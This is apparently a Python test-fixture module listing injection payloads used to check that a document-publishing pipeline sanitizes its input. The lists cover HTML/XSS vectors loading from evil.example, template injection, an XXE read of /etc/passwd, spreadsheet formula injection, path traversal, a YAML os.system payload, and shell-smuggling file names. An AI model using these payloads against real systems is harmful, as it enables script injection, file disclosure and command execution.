"""Payloads of our own that try to act from within an article, its front matter, a review or a reference file.

Each that would run calls `pwn()`, and each that would ask a host asks one below `evil.example`.
"""

from __future__ import annotations

_HTML = [
    "<script>pwn()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>pwn()</script>", "</script><script>pwn()</script>",
    "<scr<script>ipt>pwn()</scr</script>ipt>", "<script>pwn()//", "<script type=module>pwn()</script>", "<script\x20src=data:,pwn()></script>",
    "<img src=x onerror=pwn()>", "<img src=//evil.example/i.png>", "<img/src=x/onerror=pwn()>", "<img src=x onerror=\"pwn()\" ", "<image src=x onerror=pwn()>",
    "<IMG SRCSET='//evil.example/i.png 2x' SRC=x>", "<svg onload=pwn()>", "<svg><script>pwn()</script></svg>", "<svg><animate onbegin=pwn() attributeName=x dur=1s>",
    "<svg><use href=//evil.example/s.svg#x></svg>", "<svg><a xlink:href=javascript:pwn()><text y=9>x</text></a></svg>", "<svg/onload=pwn()>",
    "<math><mi href=javascript:pwn()>x</mi></math>", "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=pwn()>'>",
    "<iframe src=javascript:pwn()></iframe>", "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>", "<iframe src=//evil.example></iframe>",
    "<object data=javascript:pwn()></object>", "<object data=//evil.example/o></object>", "<embed src=//evil.example/e>", "<applet code=x></applet>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=refresh content=0;url=javascript:pwn()>",
    "<link rel=stylesheet href=//evil.example/c.css>", "<link rel=prefetch href=//evil.example/p>", "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example/c.css';</style>", "<style>*{background:url(//evil.example/b)}</style>", "<style onload=pwn()></style>",
    "<body onload=pwn()>", "<html onmouseover=pwn()>", "<input autofocus onfocus=pwn()>", "<select autofocus onfocus=pwn()>", "<textarea autofocus onfocus=pwn()>",
    "<details open ontoggle=pwn()>", "<video src=x onerror=pwn()>", "<video poster=//evil.example/v.png>", "<audio src=//evil.example/a onerror=pwn()>",
    "<video><source onerror=pwn() src=x></video>", "<track src=//evil.example/t>", "<marquee onstart=pwn()>x</marquee>", "<form action=//evil.example><input type=submit>",
    "<form><button formaction=javascript:pwn()>x</button></form>", "<isindex action=javascript:pwn() type=image>", "<a href=javascript:pwn()>x</a>",
    "<a href='&#106;avascript:pwn()'>x</a>", "<a href='java\tscript:pwn()'>x</a>", "<a href=data:text/html,<script>pwn()</script>>x</a>", "<a ping=//evil.example href=#>x</a>",
    "<p style='background:url(//evil.example/s)'>x</p>", "<div onpointerenter=pwn() style=position:fixed;inset:0>x</div>", "<template><img src=x onerror=pwn()></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>", "<xmp><img src=x onerror=pwn()></xmp>", "<plaintext>", "<title></title><img src=x onerror=pwn()>",
    "<textarea></textarea><img src=x onerror=pwn()>", "<!--><img src=x onerror=pwn()>-->", "<!-- --!><img src=x onerror=pwn()>", "<![CDATA[<img src=x onerror=pwn()>]]>",
    "]]><script>pwn()</script>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "<?php pwn(); ?>", "<% pwn() %>",
    "<dialog open><img src=x onerror=pwn()></dialog>", "<x onclick=pwn() tabindex=1 autofocus onfocus=pwn()>", "<portal src=//evil.example>", "<frameset onload=pwn()>",
    "<table background=//evil.example/t>", "<td background=javascript:pwn()>", "<bgsound src=//evil.example/b>", "<keygen autofocus onfocus=pwn()>",
]  # fmt: skip
_ATTRIBUTE = [
    "\" onmouseover=\"pwn()", "' onmouseover='pwn()", "\"><img src=x onerror=pwn()>", "'><img src=x onerror=pwn()>", "\" autofocus onfocus=pwn() x=\"",
    "` onmouseover=pwn()", "\"><script>pwn()</script>", "x\" style=\"background:url(//evil.example/a)", "{: onmouseover=pwn() }", "{: .x #y style=\"color:red\" }",
    "&quot; onmouseover=&quot;pwn()", "&#34;><img src=x onerror=pwn()>", "%22%3E%3Cimg%20src=x%20onerror=pwn()%3E",
]  # fmt: skip
_MARKDOWN = [
    "[x](javascript:pwn())", "![x](//evil.example/m.png)", "[x]: javascript:pwn()", "[x](<javascript:pwn()>)", "<javascript:pwn()>", "[x][y]\n\n[y]: javascript:pwn()",
    "![x](x \"onerror=pwn()\")", "[x](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)", "# x {: onmouseover=pwn() }", "```\n<script>pwn()</script>\n```",
    "<div markdown=1><script>pwn()</script></div>", "    <script>pwn()</script>", "|a|b|\n|-|-|\n|<img src=x onerror=pwn()>|y|", "*[HTML]: <img src=x onerror=pwn()>", "[^1]: <img src=x onerror=pwn()>",
    "--8<-- \"/etc/passwd\"", "[TOC]", "!!! note \"<img src=x onerror=pwn()>\"", "***", "---\ntitle: x\n---", "\\<img src=x onerror=pwn()>", "\x02amp\x03", "\x02wzxhzdk:0\x03", "klzzwxh:0000",
]  # fmt: skip
_TEMPLATE = [
    "{{ 7*7 }}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endraw %}{{ 7*7 }}", "{# x #}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{ page.content|safe }}", "{%% x %%}", "[[${7*7}]]", "@{x}", "\x1e# heading {#x}", "{{", "}}", "{%",
]  # fmt: skip
_SCRIPT_DATA = [
    "</script><img src=x onerror=pwn()>", "<!--<script>", "\u2028pwn()\u2029", "\";pwn();\"", "';pwn();'", "\\\";pwn();//", "</ScRiPt >\n<img src=x onerror=pwn()>", "${pwn()}", "\\u003cimg src=x onerror=pwn()\\u003e", "{\"@context\": \"//evil.example\"}",
]  # fmt: skip
_FORMULAS = [
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd", "-2+3+cmd", "@SUM(1+1)", "=IMPORTXML(\"http://evil.example\",\"//a\")", "\t=1+1", "\r=1+1", "%0A=1+1", "＝1+1", "=1+1\",,\"x",
]  # fmt: skip
_PATHS = ["../../../etc/passwd", "..\\..\\x", "/etc/passwd", "file:///etc/passwd", "C:\\x", "con", "a/../../b", "%2e%2e%2f", "x\x00.md", "~root", "index", "\u2025/x"]
_EYES = [
    "Ascend\u202e C019", "\u2066x\u2069", "Аscend 910С", "Ηuawei", "Ａｓｃｅｎｄ", "a\u0300\u0301\u0302\u0303\u0304", "\ufeff", "\u200bHua\u200dwei", "\x1b[31mred\x1b[0m", "\x07\x08\x0b\x0c", "\x85\xa0",
    "\U000e0041\U000e0042", "𝐀𝐬𝐜𝐞𝐧𝐝", "ﷺ" * 20, "\u0000", "🏴\u200d☠\ufe0f", "\ud7ff\ufffe", "A" * 3000, "(" * 200, "9" * 400, "\"" * 50, "`" * 60,
]  # fmt: skip
_YAML = ["!!python/object/apply:os.system ['id']", "&a [*a, *a]", "*x", "- x", "? x", "key: value: x", "| x", "> x", "@x", "%x", "no", "null", "~", "0x1F", "1e999", ".inf", "2025-13", "1:2", "<<: *x"]

PAYLOADS = (*_HTML, *_ATTRIBUTE, *_MARKDOWN, *_TEMPLATE, *_SCRIPT_DATA, *_FORMULAS, *_PATHS, *_EYES, *_YAML)

SCHEMES = ["javascript:pwn()", "JaVaScRiPt:pwn()", "java\tscript:pwn()", " javascript:pwn()", "data:text/html,<script>pwn()</script>", "vbscript:pwn()", "file:///etc/passwd",
           "//evil.example/", "https://evil.example\"onmouseover=pwn()", "https://a b.example/<script>", "https://user:pass@evil.example/", "blob:https://evil.example/x",
           "https://paper.example/\"><img src=x onerror=pwn()>", "http://[::1", "https://", "x", "https://paper.example/`x`", "https://paper.example/{{7*7}}"]  # fmt: skip
NAMES = [f"{stem}{('.md', '.txt')[at % 2]}" for at, stem in enumerate(
    ("a<img src=x onerror=pwn()>", "b\"onmouseover=pwn()", "c'x", "d{{7*7}}", "e&amp;", "f`x`", "g#x?y=z", "index", "README", "h\u202ex", "i%2e%2e", "ＬＯＯＫ", "-rf", "j" * 120, "j" * 121, "k\nl", "$(id)", "m;id", "昇腾"))]  # fmt: skip
